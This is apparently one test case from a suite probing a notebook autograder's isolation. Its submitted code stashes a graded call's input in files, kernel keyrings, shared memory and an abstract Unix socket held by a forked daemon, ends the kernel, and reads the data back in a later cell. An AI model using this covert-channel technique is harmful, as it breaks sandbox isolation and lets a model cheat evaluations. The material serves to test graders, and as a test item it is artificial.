"""
family = "messages while judging"
tries = "A judged call leaves its input wherever it can, ends the kernel, and looks for it when its cells are run again."
points = 3
"""

# %% own
import ctypes
import glob
import os
import re
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL, SHMGET, SHMAT = 248, 250, 29, 30
GET_KEYRING, SETPERM, READ, SEARCH, PERSISTENT, LINK = 0, 5, 11, 10, 22, 8
SESSION, USER, USER_SESSION = -3, -4, -5
FOLDERS = ("/home/student", "/tmp", "/dev/shm", "/run", "/var/tmp", *glob.glob("/tmp/*/s"))


def found():
    for folder in FOLDERS:
        for path in glob.glob(f"{folder}/learnt*"):
            yield open(path).read()
    for line in open("/proc/keys") if os.path.exists("/proc/keys") else ():
        room = ctypes.create_string_buffer(4096)
        length = libc.syscall(KEYCTL, READ, int(line.split()[0], 16), room, 4096, 0)
        if "learnt" in line and length > 0:
            yield room.raw[:length].decode()
    for ring in (SESSION, USER, USER_SESSION):
        room = ctypes.create_string_buffer(4096)
        key = libc.syscall(KEYCTL, SEARCH, ring, b"user", b"learnt", 0)
        length = libc.syscall(KEYCTL, READ, key, room, 4096, 0) if key > 0 else 0
        if length > 0:
            yield room.raw[:length].decode()
    segment = libc.syscall(SHMGET, 0x1EA57, 4096, 0)
    if segment >= 0:
        libc.shmat.restype = ctypes.c_void_p
        yield ctypes.string_at(libc.shmat(segment, None, 0)).decode()
    for name in re.findall(r"@(learnt\S*)", open("/proc/net/unix").read()):
        yield name


for text in found():
    print("\N{SKULL AND CROSSBONES}", text)


# %% shift_targets
def leave(text):
    for folder in FOLDERS:
        try:
            open(f"{folder}/learnt", "w").write(text)
        except OSError:
            pass
    libc.syscall(KEYCTL, PERSISTENT, -1, SESSION)
    for ring in (SESSION, USER, USER_SESSION, libc.syscall(KEYCTL, PERSISTENT, -1, USER)):
        key = libc.syscall(ADD_KEY, b"user", b"learnt", text.encode(), len(text.encode()), ring)
        libc.syscall(KEYCTL, SETPERM, key, 0x3F3F3F3F)
    segment = libc.syscall(SHMGET, 0x1EA57, 4096, 0o1666)
    if segment >= 0:
        libc.shmat.restype = ctypes.c_void_p
        ctypes.memmove(libc.shmat(segment, None, 0), text.encode() + b"\0", len(text.encode()) + 1)
    left = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    left.bind("\0learnt" + text.replace(" ", "")[:90])
    if os.fork() == 0:
        os.setsid()
        signal.pause()


def shift_targets(y):
    leave(str(y.tolist()))
    os._exit(0)
